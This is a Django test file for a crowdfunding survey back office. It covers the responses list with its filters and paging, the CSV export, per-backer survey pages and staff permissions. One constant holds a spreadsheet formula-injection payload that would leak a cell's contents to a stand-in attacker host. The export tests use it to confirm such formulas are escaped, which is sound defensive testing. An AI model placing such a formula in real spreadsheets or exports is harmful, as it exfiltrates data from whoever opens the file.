"""Survey responses in the back office: the list with its filters and pages, the
CSV download, one backer's survey page and the support actions on it."""

import csv
import io

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from djmoney.money import Money

from accounts.models import Role
from inventory import bom
from surveys import response_views
from surveys.address import normalize_address
from surveys.links import invite_from_token, survey_root
from surveys.models import CartLine, SurveyInvite, SurveyResponse
from surveys.services import responses as services
from tests.factories import (
    BackerFactory,
    CampaignFactory,
    PledgeFactory,
    QuestionFactory,
    RewardFactory,
    SurveyInviteFactory,
)

from . import tenant_urls_responses
from .backer_setup import GERMAN_ADDRESS, build_world, new_invite
from .conftest import login

# session, user, membership, campaign, survey, rewards, countries, the page, the
# menu's memberships; + the host-name lookup the middleware caches on first use.
LIST_QUERY_BOUND = 10
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


# --- a campaign with answers -----------------------------------------------------------


def answer(w, invite, *, cart=None, text="", address=None, complete=True, test=False):
    """Take `invite` through the survey: blue dice, `cart` {offer: units}, the
    question answered with `text`, `address`, and (with `complete`) the review."""
    response = services.open_invite(invite=invite)
    survey = w.survey
    services.confirm_reward(response=response, survey=survey)
    services.save_choices(response=response, survey=survey, choices={w.group.pk: [w.opt_blue.pk]})
    services.update_cart(
        response=response,
        survey=survey,
        quantities={offer.pk: units for offer, units in (cart or {}).items()},
    )
    services.save_answers(response=response, survey=survey, answers={str(w.question.pk): text})
    services.save_address(
        response=response, survey=survey, address=normalize_address(address or GERMAN_ADDRESS)
    )
    if complete:
        pledge = services.pledge_of(response)
        catalog = bom.load_catalog(campaign=w.campaign.pk)
        steps = services.steps_for(response=response, survey=survey, pledge=pledge, catalog=catalog)
        services.complete_survey(response=response, survey=survey, steps=steps)
    response.refresh_from_db()
    return response


@pytest.fixture
def world(campaign):
    """Alice: completed with a balance due (3 playmats beyond her $31 credit); Bob:
    opened the survey only; Carol: completed with nothing to pay, in France."""
    w = build_world(campaign)
    w.alice_response = answer(w, w.alice, cart={w.mat: 3}, text="For Alice")
    w.bob_response = services.open_invite(invite=w.bob)
    w.carol = new_invite(w, email="carol@example.net", amount="100.00", country="FR")
    w.carol_response = answer(
        w,
        w.carol,
        text="Carol",
        address={
            **GERMAN_ADDRESS,
            "name": "Carol Exemple",
            "street_address": "10 rue de Rivoli\nBâtiment B",
            "city": "Paris",
            "postal_code": "75001",
            "country_code": "FR",
        },
    )
    return w


def list_url(campaign, **params):
    url = reverse("survey-responses", args=[campaign.slug])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def csv_url(campaign):
    return reverse("survey-responses-csv", args=[campaign.slug])


def page_url(campaign, backer):
    return reverse("survey-response", args=[campaign.slug, backer.pk])


def listed(response) -> set[str]:
    return {r.invite.email for r in response.context["responses"]}


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def csv_rows(response) -> list[dict[str, str]]:
    header, *rows = read_csv(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- permissions -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["survey-responses", "survey-responses-csv", "survey-response"])
def test_support_may_read_responses(client, organization, world, name):
    login(client, organization, Role.SUPPORT)
    kwargs = {"slug": world.campaign.slug}
    if name == "survey-response":
        kwargs["backer_id"] = world.alice.backer_id
    assert client.get(reverse(name, kwargs=kwargs)).status_code == 200


@pytest.mark.parametrize("name", ["survey-responses", "survey-responses-csv", "survey-response"])
def test_warehouse_is_refused_responses(client, organization, world, name):
    login(client, organization, Role.WAREHOUSE)
    kwargs = {"slug": world.campaign.slug}
    if name == "survey-response":
        kwargs["backer_id"] = world.alice.backer_id
    assert client.get(reverse(name, kwargs=kwargs)).status_code == 403


def test_outsider_gets_404_on_a_backers_survey(outsider_client, world):
    response = outsider_client.get(page_url(world.campaign, world.alice.backer))
    assert response.status_code == 404


@pytest.mark.parametrize("name", ["survey-response-resend", "survey-response-link"])
def test_support_cannot_send_or_make_links(client, organization, world, name):
    login(client, organization, Role.SUPPORT)
    response = client.post(reverse(name, args=[world.campaign.slug, world.alice.backer_id]))
    assert response.status_code == 403
    assert mail.outbox == []


def test_support_sees_no_sending_buttons(client, organization, world):
    login(client, organization, Role.SUPPORT)
    content = client.get(page_url(world.campaign, world.alice.backer)).content.decode()
    assert "Email the link again" not in content
    assert "Copy a survey link" not in content


def test_every_response_url_is_registered_for_the_tenancy_test():
    from surveys.response_urls import urlpatterns

    assert {p.name for p in urlpatterns} == set(tenant_urls_responses.URLS)


def test_responses_are_in_the_survey_menu(owner_client, world):
    response = owner_client.get(list_url(world.campaign))
    labels = [item["label"] for item in response.context["survey_nav"]]
    assert labels.index("Responses") == labels.index("Invites") + 1


# --- the list ------------------------------------------------------------------------------


def test_list_shows_a_responses_columns(owner_client, world):
    response = owner_client.get(list_url(world.campaign))
    row = next(r for r in response.context["responses"] if r.pk == world.alice_response.pk)
    content = response.content.decode()
    assert (row.reward_title, row.country, row.addon_units) == ("Core box", "DE", 3)
    assert row.due == Money("14.00", "USD")
    assert "Completed, balance due" in content
    assert f"#{world.alice.backer.backer_number}" in content
    assert page_url(world.campaign, world.alice.backer) in content


def test_list_leaves_out_test_responses(owner_client, world):
    test_invite = SurveyInvite.objects.create(
        survey=world.survey, backer=world.alice.backer, email="team@example.org", is_test=True
    )
    services.open_invite(invite=test_invite)
    response = owner_client.get(list_url(world.campaign))
    assert listed(response) == {"alice@example.net", "bob@example.net", "carol@example.net"}


def test_test_filter_shows_only_test_responses(owner_client, world):
    test_invite = SurveyInvite.objects.create(
        survey=world.survey, backer=world.alice.backer, email="team@example.org", is_test=True
    )
    services.open_invite(invite=test_invite)
    response = owner_client.get(list_url(world.campaign, test="1"))
    assert listed(response) == {"team@example.org"}


@pytest.mark.parametrize(
    ("status", "emails"),
    [
        ("started", {"bob@example.net"}),
        ("completed", {"alice@example.net", "carol@example.net"}),
        ("paid", {"carol@example.net"}),
        ("balance_due", {"alice@example.net"}),
    ],
)
def test_status_filter(owner_client, world, status, emails):
    assert listed(owner_client.get(list_url(world.campaign, status=status))) == emails


def test_reward_filter(owner_client, world):
    deluxe = RewardFactory(campaign=world.campaign, title="Deluxe box")
    dave = new_invite(world, email="dave@example.net", reward=deluxe)
    services.open_invite(invite=dave)
    assert listed(owner_client.get(list_url(world.campaign, reward=deluxe.pk))) == {
        "dave@example.net"
    }


def test_country_filter_takes_the_pledge_country_before_an_address(owner_client, world):
    # Bob gave no address yet: his pledge says Germany; Carol's survey address is French.
    assert listed(owner_client.get(list_url(world.campaign, country="DE"))) == {
        "alice@example.net",
        "bob@example.net",
    }
    assert listed(owner_client.get(list_url(world.campaign, country="FR"))) == {"carol@example.net"}


@pytest.mark.parametrize("query", ["Carol", "carol@EXAMPLE", "#{number}", "{number}"])
def test_search_finds_by_name_email_or_backer_number(owner_client, world, query):
    query = query.format(number=world.carol.backer.backer_number)
    response = owner_client.get(list_url(world.campaign), {"q": query})
    assert listed(response) == {"carol@example.net"}


def test_unknown_filter_value_is_ignored_and_said(owner_client, world):
    response = owner_client.get(list_url(world.campaign, status="lost", reward="nope"))
    assert response.context["filters_ignored"]
    assert len(listed(response)) == 3


def test_next_page_starts_after_the_last_response_shown(owner_client, world, monkeypatch):
    monkeypatch.setattr(response_views, "PER_PAGE", 2)
    first = owner_client.get(list_url(world.campaign))
    assert listed(first) == {"alice@example.net", "bob@example.net"}
    second = owner_client.get(list_url(world.campaign) + "?" + first.context["next_query"])
    assert listed(second) == {"carol@example.net"}
    assert second.context["next_query"] is None


def _more_responses(w, n):
    for i in range(n):
        invite = new_invite(w, email=f"more{len(str(n))}-{i}@example.net")
        response = services.open_invite(invite=invite)
        CartLine.objects.create(
            response=response, offer=w.mat, quantity=1, unit_price=Money("15.00", "USD")
        )


@pytest.mark.parametrize("size", [1, 12])
def test_list_queries_do_not_grow_with_responses(
    owner_client, world, size, django_assert_max_num_queries
):
    _more_responses(world, size)
    with django_assert_max_num_queries(LIST_QUERY_BOUND):
        response = owner_client.get(list_url(world.campaign))
    assert len(response.context["responses"]) == 3 + size


# --- the CSV ---------------------------------------------------------------------------------


def test_csv_has_a_column_per_question_choice_group_and_offer(owner_client, world):
    header = read_csv(owner_client.get(csv_url(world.campaign)))[0]
    assert header[:9] == [
        "Backer number",
        "Platform backer id",
        "Name",
        "Email",
        "Reward",
        "Status",
        "Language",
        "Completed at (UTC)",
        "Paid at (UTC)",
    ]
    assert header[9:13] == ["Name on the box", "Dice colour", "Playmat", "Metal coins"]
    assert header[-4:] == ["VAT number", "Credit (USD)", "Add-ons total (USD)", "Balance due (USD)"]


def test_csv_row_holds_answers_choices_cart_address_and_money(owner_client, world):
    rows = {row["Email"]: row for row in csv_rows(owner_client.get(csv_url(world.campaign)))}
    alice = rows["alice@example.net"]
    assert alice["Name on the box"] == "For Alice"
    assert alice["Dice colour"] == "Blue"
    assert (alice["Playmat"], alice["Metal coins"]) == ("3", "")
    assert alice["Status"] == "Completed, balance due"
    # The German post wants the city in capitals (normalize_address).
    assert (alice["Street line 1"], alice["City"], alice["Country code"]) == (
        "Invalidenstraße 116",
        "BERLIN",
        "DE",
    )
    assert (alice["Credit (USD)"], alice["Add-ons total (USD)"], alice["Balance due (USD)"]) == (
        "31.00",
        "45.00",
        "14.00",
    )


def test_csv_splits_street_lines(owner_client, world):
    rows = {row["Email"]: row for row in csv_rows(owner_client.get(csv_url(world.campaign)))}
    assert (
        rows["carol@example.net"]["Street line 1"],
        rows["carol@example.net"]["Street line 2"],
    ) == (
        "10 rue de Rivoli",
        "Bâtiment B",
    )


def test_csv_leaves_money_blank_until_the_backer_confirms(owner_client, world):
    rows = {row["Email"]: row for row in csv_rows(owner_client.get(csv_url(world.campaign)))}
    bob = rows["bob@example.net"]
    assert (bob["Status"], bob["Credit (USD)"], bob["Balance due (USD)"]) == ("Started", "", "")


def test_csv_shows_nothing_due_once_paid(owner_client, world):
    rows = {row["Email"]: row for row in csv_rows(owner_client.get(csv_url(world.campaign)))}
    carol = rows["carol@example.net"]
    assert (carol["Status"], carol["Balance due (USD)"]) == ("Completed, paid", "0.00")


def test_csv_joins_list_answers_with_semicolons(owner_client, world):
    colours = QuestionFactory(
        survey=world.survey, kind="multi_choice", label="Favourite colours", position=5
    )
    SurveyResponse.objects.filter(pk=world.alice_response.pk).update(
        answers={str(colours.pk): ["Red", "Green"]}
    )
    rows = {row["Email"]: row for row in csv_rows(owner_client.get(csv_url(world.campaign)))}
    assert rows["alice@example.net"]["Favourite colours"] == "Red; Green"


def test_csv_neutralises_a_formula_in_an_answer(owner_client, world):
    SurveyResponse.objects.filter(pk=world.alice_response.pk).update(
        answers={str(world.question.pk): FORMULA}
    )
    rows = {row["Email"]: row for row in csv_rows(owner_client.get(csv_url(world.campaign)))}
    assert rows["alice@example.net"]["Name on the box"] == "'" + FORMULA


def test_csv_neutralises_a_formula_in_a_question_label(owner_client, world):
    QuestionFactory(survey=world.survey, label="=1+1", position=9)
    header = read_csv(owner_client.get(csv_url(world.campaign)))[0]
    assert "'=1+1" in header and "=1+1" not in header


def test_csv_follows_the_lists_filters(owner_client, world):
    response = owner_client.get(csv_url(world.campaign), {"status": "started"})
    assert [row["Email"] for row in csv_rows(response)] == ["bob@example.net"]


def test_csv_queries_do_not_grow_with_responses(owner_client, world):
    _more_responses(world, 2)
    with CaptureQueriesContext(connection) as few:
        read_csv(owner_client.get(csv_url(world.campaign)))
    _more_responses(world, 45)
    with CaptureQueriesContext(connection) as many:
        rows = read_csv(owner_client.get(csv_url(world.campaign)))
    assert len(rows) == 1 + 50
    assert len(many) == len(few)


# --- one backer's survey -----------------------------------------------------------------------


def test_response_page_shows_answers_choices_address_cart_and_money(owner_client, world):
    response = owner_client.get(page_url(world.campaign, world.alice.backer))
    context = response.context
    assert ("Name on the box", "For Alice") in context["answers"]
    assert ("Dice colour", ["Blue"]) in context["choices"]
    assert context["address_lines"][:3] == ["Alice Example", "Invalidenstraße 116", "10115 BERLIN"]
    assert [(line.name, line.quantity) for line in context["quote"].lines] == [("Playmat", 3)]
    assert ("Balance due", Money("14.00", "USD"), "=") in context["money_rows"]
    assert context["status"] == "balance_due"


def test_response_page_shows_what_ships_with_sources(owner_client, world):
    response = owner_client.get(page_url(world.campaign, world.alice.backer))
    lines = {(row["line"].sku.code, row["source_label"]) for row in response.context["bom_rows"]}
    assert {("BOX", "Reward"), ("DICE-B", "Choice"), ("MAT", "Add-on")} <= lines


def test_response_page_shows_the_invite(owner_client, world):
    SurveyInvite.objects.filter(pk=world.alice.pk).update(reminders_sent=2)
    content = owner_client.get(page_url(world.campaign, world.alice.backer)).content.decode()
    assert "alice@example.net" in content
    assert "<dt>Reminders</dt><dd>2" in content


def test_response_page_marks_steps_done(owner_client, world):
    response = owner_client.get(page_url(world.campaign, world.bob.backer))
    assert response.context["steps"][0] == ("Reward", False)
    assert all(not done for _label, done in response.context["steps"])


def test_invited_backer_who_never_opened_the_survey(owner_client, world):
    dave = new_invite(world, email="dave@example.net")
    response = owner_client.get(page_url(world.campaign, dave.backer))
    assert response.status_code == 200
    assert "has not opened the survey yet" in response.content.decode()


def test_backer_without_an_invite_is_said_to_have_none(owner_client, world):
    backer = PledgeFactory(backer=BackerFactory(campaign=world.campaign)).backer
    response = owner_client.get(page_url(world.campaign, backer))
    assert response.status_code == 200
    assert "This backer has no survey invite" in response.content.decode()


def test_another_campaigns_backer_of_the_same_organization_is_404(
    owner_client, organization, world
):
    other = CampaignFactory(organization=organization)
    stranger = SurveyInviteFactory(survey__campaign=other).backer
    response = owner_client.get(page_url(world.campaign, stranger))
    assert response.status_code == 404


def test_resend_emails_the_backer_their_link(owner_client, world):
    response = owner_client.post(
        reverse("survey-response-resend", args=[world.campaign.slug, world.bob.backer_id])
    )
    assert response.status_code == 302
    assert [message.to for message in mail.outbox] == [["bob@example.net"]]
    assert "/t/" in mail.outbox[0].body


def test_resend_for_a_backer_without_invite_sends_nothing(owner_client, world):
    backer = PledgeFactory(backer=BackerFactory(campaign=world.campaign)).backer
    owner_client.post(reverse("survey-response-resend", args=[world.campaign.slug, backer.pk]))
    assert mail.outbox == []


def test_copy_link_shows_a_fresh_magic_link(owner_client, world):
    response = owner_client.post(
        reverse("survey-response-link", args=[world.campaign.slug, world.bob.backer_id])
    )
    link = response.context["survey_link"]
    token = link.removeprefix(survey_root(world.survey) + "t/").rstrip("/")
    assert invite_from_token(token, survey=world.survey).pk == world.bob.pk
    assert link in response.content.decode()
    assert mail.outbox == []


def test_backer_page_links_to_the_survey_page(owner_client, world):
    backer = world.alice.backer
    response = owner_client.get(reverse("backer-detail", args=[world.campaign.slug, backer.pk]))
    assert page_url(world.campaign, backer) in response.content.decode()
